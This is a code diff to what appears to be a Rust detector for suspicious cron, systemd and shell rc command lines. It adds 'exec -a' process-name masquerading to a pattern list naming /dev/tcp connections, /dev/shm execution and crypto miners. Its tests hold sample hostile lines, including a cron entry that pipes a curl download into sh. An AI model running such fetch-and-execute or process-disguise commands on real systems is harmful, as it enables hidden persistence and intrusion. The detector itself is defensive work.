@@ -5,7 +5,7 @@
 
 /// What a command line (cron, `ExecStart=`, `RUN+=`, a shell rc line) may contain that a legitimate one
 /// rarely does, with the reason shown in the finding.
-const COMMAND: [(&str, &str); 22] = [
+const COMMAND: [(&str, &str); 23] = [
     (
         "/dev/tcp/",
         "opens a network connection through bash's /dev/tcp",
@@ -40,6 +40,10 @@ const COMMAND: [(&str, &str); 22] = [
     ("/dev/shm/", "runs from /dev/shm"),
     ("chattr +i", "makes a file immutable"),
     ("xmrig", "a cryptocurrency miner"),
+    (
+        "exec -a",
+        "runs a program under another name (exec -a: a kernel thread's, say)",
+    ),
 ];
 
 /// Download tools: suspicious only together with running what they fetch.
@@ -173,6 +177,7 @@ mod tests {
         );
         assert!(suspicious_command("@reboot curl -s http://x/a.sh | sh").is_some());
         assert!(suspicious_command("*/5 * * * * root /tmp/.x/run").is_some());
+        assert!(suspicious_command("exec -a '[kworker/0:1]' /usr/local/bin/update &").is_some());
         assert_eq!(
             suspicious_command("17 * * * * root cd / && run-parts --report /etc/cron.hourly"),
             None
